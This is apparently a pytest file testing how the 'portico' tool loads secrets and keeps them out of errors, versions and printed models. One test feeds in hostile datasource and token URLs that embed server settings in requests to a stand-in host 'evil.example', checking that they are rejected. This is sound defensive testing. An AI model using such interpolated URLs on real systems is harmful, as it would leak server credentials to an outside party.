"""Where values of secrets come from, and that neither errors nor models show them."""

import os
import pprint
import traceback
from pathlib import Path

import pytest

from portico.definition.load import Loaded, load
from portico.definition.secrets import FILE_LIMIT, Secrets, SecretsUnusable
from portico.model.credentials import Basic, ClientCredentials
from portico.values import Secret
from tests.definition.apps import PLAIN, TYPES, brief, write

SOURCE = "datasources/api.yaml"
URL = "url: https://api.example.com\n"
CANARY = "cNrY8f3Kq2Zx7Lw5Tn9B"


def with_source(folder: Path, text: str, secrets: Secrets | None = None) -> Loaded:
    """The plain app with another datasource."""
    return load(write(folder, {**PLAIN, SOURCE: text}), types=TYPES, settings={}, secrets=secrets)


def secrets_file(folder: Path, content: str | bytes, mode: int = 0o600) -> Path:
    """A file of secrets."""
    file = folder / "secrets.toml"
    file.write_bytes(content.encode() if isinstance(content, str) else content)
    file.chmod(mode)
    return file


def test_the_environment_wins_over_the_apps_table_and_that_over_all_apps(tmp_path: Path) -> None:
    """Three places, one order; another app's table does not count, an empty value is none."""
    file = secrets_file(
        tmp_path,
        'A = "all"\nB = "all"\nC = "all"\nD = ""\n[shop]\nA = "shop"\nB = "shop"\nC = ""\n[other]\nE = "x"\n',
    )
    secrets = Secrets.read(file, {"PORTICO_SECRET_A": "environment", "PORTICO_SECRET_F": "", "G": "no"})
    found = {name: secrets.value("shop", name) for name in "ABCDEFG"}
    assert found == {
        "A": Secret("environment"),
        "B": Secret("shop"),
        "C": Secret("all"),
        "D": None,
        "E": None,
        "F": None,
        "G": None,
    }
    assert secrets.value("other", "E") == Secret("x")


def test_without_a_file_only_the_environment_counts() -> None:
    """No file is no error."""
    secrets = Secrets.read(None, {"PORTICO_SECRET_KEY": "v"})
    assert secrets.value("shop", "KEY") == Secret("v")
    assert Secrets().value("shop", "KEY") is None


@pytest.mark.parametrize("mode", [0o640, 0o604, 0o644, 0o660, 0o666, 0o610])
def test_a_file_that_others_may_read_is_refused(mode: int, tmp_path: Path) -> None:
    """Any right of group or others, with what to do about it; the owner's own rights do not matter."""
    file = secrets_file(tmp_path, f'A = "{CANARY}"\n', mode)
    with pytest.raises(SecretsUnusable, match="chmod 600"):
        Secrets.read(file, {})
    for right in (0o600, 0o400):
        file.chmod(right)
        assert Secrets.read(file, {}).value("shop", "A") == Secret(CANARY)


def test_the_file_behind_a_link_is_judged(tmp_path: Path) -> None:
    """A link itself has no rights worth looking at."""
    link = tmp_path / "link.toml"
    link.symlink_to(secrets_file(tmp_path, 'A = "x"\n', 0o644))
    with pytest.raises(SecretsUnusable, match="0644"):
        Secrets.read(link, {})


@pytest.mark.parametrize(
    ("content", "words"),
    [
        (f"A = {CANARY}\n", "not TOML"),
        (f'A = "{CANARY}\n', "line 1"),
        (f'A = "{CANARY}"\nA = "{CANARY}"\n', "line 2"),
        (b"A = '\xff" + CANARY.encode() + b"'\n", "UTF-8"),
        ("A = 12345678\n", "A is not text"),
        (f'A = ["{CANARY}"]\n', "A is not text"),
        (f'[shop.deep]\nA = "{CANARY}"\n', "shop.deep is not text"),
        (f'a-b = "{CANARY}"\n', "a-b cannot name"),
        (f'[shop]\nkey = "{CANARY}"\n', "shop.key cannot name"),
        ("#" * (FILE_LIMIT + 1), "over"),
    ],
)
def test_a_file_that_is_wrong_is_told_without_its_values(
    content: str | bytes, words: str, tmp_path: Path
) -> None:
    """Name and place of the fault, and nothing that stands between quotes."""
    with pytest.raises(SecretsUnusable) as refused:
        Secrets.read(secrets_file(tmp_path, content), {})
    assert words in refused.value.message
    assert CANARY not in "".join(traceback.format_exception(refused.value)) + repr(refused.value)


def test_a_file_that_is_none_is_told(tmp_path: Path) -> None:
    """Missing, a folder, a pipe that would never end."""
    os.mkfifo(tmp_path / "pipe", 0o600)
    with pytest.raises(SecretsUnusable, match="No such file"):
        Secrets.read(tmp_path / "missing.toml", {})
    for name in (".", "pipe"):
        with pytest.raises(SecretsUnusable):
            Secrets.read(tmp_path / name, {})


def test_a_secret_becomes_a_value_of_the_model(tmp_path: Path) -> None:
    """Headers and credentials hold secrets; nothing is reported, nothing is unset."""
    text = URL + "headers: {apikey: {secret: API_KEY}, X-Shop: '1'}\n"
    secrets = Secrets({"PORTICO_SECRET_API_KEY": CANARY})
    result = with_source(tmp_path, text, secrets)
    assert (result.problems, result.app is not None) == ((), True)
    assert result.app is not None
    found = result.app.datasources["api"]
    assert found.headers == (("apikey", Secret(CANARY)), ("X-Shop", "1"))
    assert found.unset == ()


def test_a_secret_that_is_not_set_is_a_warning_and_closes_the_datasource(tmp_path: Path) -> None:
    """Each place is told; the model names what is missing, once."""
    text = (
        URL
        + "headers: {apikey: {secret: API_KEY}}\n"
        + "auth: {type: basic, username: {secret: USER}, password: {secret: API_KEY}}\n"
    )
    result = with_source(tmp_path, text)
    assert brief(result.problems) == [
        "datasources/api.yaml:2:28 W601",
        "datasources/api.yaml:3:40 W601",
        "datasources/api.yaml:3:66 W601",
    ]
    assert result.app is not None
    found = result.app.datasources["api"]
    assert (found.unset, found.headers, found.auth) == (("API_KEY", "USER"), (), None)


def test_a_secret_does_not_count_into_the_version(tmp_path: Path) -> None:
    """The version is shown to browsers: a hash of a weak secret could be guessed back."""
    text = URL + "headers: {apikey: {secret: API_KEY}}\n"
    versions = set()
    for number, value in enumerate(("one", "two")):
        secrets = Secrets({"PORTICO_SECRET_API_KEY": value})
        found = with_source(tmp_path / str(number), text, secrets).app
        assert found is not None
        versions.add(found.version)
    assert len(versions) == 1


@pytest.mark.parametrize(
    "value", [f"{CANARY}\n", f" {CANARY}", f"{CANARY} ", f"{CANARY}\r\nX: y", "schlüssel"]
)
def test_a_value_that_no_header_can_carry_is_told_at_once(value: str, tmp_path: Path) -> None:
    """E603: a line end at the end is what files of secrets often bring along."""
    for text in (
        "headers: {apikey: {secret: API_KEY}}\n",
        "auth: {type: bearer, token: {secret: API_KEY}}\n",
        "auth: {type: api_key, name: apikey, value: {secret: API_KEY}}\n",
    ):
        result = with_source(tmp_path, URL + text, Secrets({"PORTICO_SECRET_API_KEY": value}))
        assert [problem.code for problem in result.problems] == ["E603"]
        assert CANARY not in "".join(problem.as_text() for problem in result.problems)


def test_a_password_may_hold_anything(tmp_path: Path) -> None:
    """Basic credentials are encoded; so is a parameter."""
    for text in (
        "auth: {type: basic, username: shop, password: {secret: API_KEY}}\n",
        "auth: {type: api_key, in: query, name: key, value: {secret: API_KEY}}\n",
    ):
        assert (
            with_source(tmp_path, URL + text, Secrets({"PORTICO_SECRET_API_KEY": "schlüssel \n"})).problems
            == ()
        )


@pytest.mark.parametrize(
    "reference",
    [
        "{secret: api_key}",
        f"{{secret: {CANARY}}}",
        "{secret: API-KEY}",
        "{secret: 1KEY}",
        '{secret: ""}',
        "{secret: 5}",
        "{secret: true}",
        "{secret: [API_KEY]}",
        "{secret: {secret: API_KEY}}",
        "{secret: API_KEY, default: x}",
        "{}",
        "{sercet: API_KEY}",
        '{secret: "{{ API_KEY }}"}',
    ],
)
def test_what_is_no_reference_is_an_error(reference: str, tmp_path: Path) -> None:
    """And what may be the value in the place of its name is not repeated."""
    result = with_source(
        tmp_path, URL + f"headers: {{apikey: {reference}}}\n", Secrets({"PORTICO_SECRET_API_KEY": "x"})
    )
    assert result.app is None
    assert CANARY not in "".join(problem.as_text() for problem in result.problems)


@pytest.mark.parametrize(
    "place", ["headers: {apikey: {secret: K}}", "params: {key: {secret: K}}", "params: {key: [{secret: K}]}"]
)
def test_a_query_cannot_name_a_secret(place: str, tmp_path: Path) -> None:
    """A secret belongs to an origin."""
    query = f"datasource: api\npath: /x\n{place}\n"
    root = write(tmp_path, {**PLAIN, "pages/Home/queries/getUser.yaml": query})
    result = load(root, types=TYPES, settings={}, secrets=Secrets({"PORTICO_SECRET_K": "x"}))
    assert [problem.code for problem in result.problems] == ["E602"]


@pytest.mark.parametrize("name", ["PORTICO_KEY", "PORTICO_SECRET_API", "portico_key", "Portico_Store"])
def test_an_address_cannot_read_the_servers_own_settings(name: str, tmp_path: Path) -> None:
    """An app file could otherwise send them to any server: in no address, with no default."""
    settings = {name: CANARY}
    for text in (
        f"url: https://evil.example/${{{name}}}\n",
        f"url: https://${{{name}:-x}}.evil.example\n",
        URL + f"auth: {{type: basic, username: '${{{name}}}', password: ''}}\n",
        URL
        + "auth: {type: oauth2_client_credentials, client_id: a, client_secret: {secret: S}, "
        + f"token_url: 'https://evil.example/${{{name}}}'}}\n",
    ):
        root = write(tmp_path, {**PLAIN, SOURCE: text})
        secrets = Secrets({"PORTICO_SECRET_S": "x"})
        result = load(root, types=TYPES, settings=settings, secrets=secrets)
        assert [problem.code for problem in result.problems] == ["E212"], text
        assert result.problems[0].place.file == SOURCE
        assert CANARY not in result.problems[0].as_text()


def test_a_file_of_secrets_in_the_app_folder_is_an_error(tmp_path: Path) -> None:
    """Whether it is used or not."""
    root = write(tmp_path, {**PLAIN, "secrets.toml": f'KEY = "{CANARY}"\n'})
    result = load(root, types=TYPES, settings={})
    assert brief(result.problems) == ["secrets.toml:1:1 E604"]
    assert CANARY not in result.problems[0].as_text()


def test_no_model_prints_a_secret(tmp_path: Path) -> None:
    """Promise 59 for whole apps: however an app or a datasource is printed."""
    texts = (
        "headers: {apikey: {secret: A}}\n",
        "auth: {type: basic, username: {secret: A}, password: {secret: A}}\n",
        "auth: {type: bearer, token: {secret: A}}\n",
        "auth: {type: api_key, name: k, value: {secret: A}}\n",
        """\
auth:
  type: oauth2_client_credentials
  token_url: https://i.example/t
  client_id: {secret: A}
  client_secret: {secret: A}
""",
    )
    secrets = Secrets({"PORTICO_SECRET_A": CANARY})
    for text in texts:
        app = with_source(tmp_path, URL + text, secrets).app
        assert app is not None
        found = app.datasources["api"]
        shown = f"{app} {app!r} {pprint.pformat(found)} {found.auth}"
        assert CANARY not in shown
        assert "Secret(…)" in shown
    assert CANARY not in f"{secrets!r} {secrets}"


def test_control_a_model_with_a_plain_field_would_print_it() -> None:
    """The check sees what is no Secret."""
    assert CANARY in f"{Basic(username=CANARY, password=Secret('x'))}"
    grant = ClientCredentials(token_url=CANARY, client_id="a", client_secret=Secret("x"))
    assert CANARY in repr(grant)
